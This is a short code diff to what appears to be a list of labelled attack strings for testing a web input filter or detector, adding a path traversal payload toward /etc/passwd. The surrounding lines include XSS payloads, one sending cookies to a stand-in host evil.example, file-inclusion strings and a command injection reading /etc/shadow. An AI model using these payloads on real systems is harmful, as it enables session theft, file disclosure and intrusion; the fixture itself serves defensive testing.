@@ -17,6 +17,7 @@ const ATTACKS = [
   ['<script>alert(document.cookie)</script>', 'xss'],
   ['"><svg/onload=confirm(1)>', 'xss'],
   ['javascript:fetch("//evil.example/?"+document.cookie)', 'xss'],
+  ['../../../../etc/passwd', 'lfi'],
   ['..%c0%af..%c0%af..%c0%afwindows/win.ini', 'lfi'],
   ['php://filter/convert.base64-encode/resource=index.php', 'lfi'],
   ['; cat /etc/shadow', 'rce'],
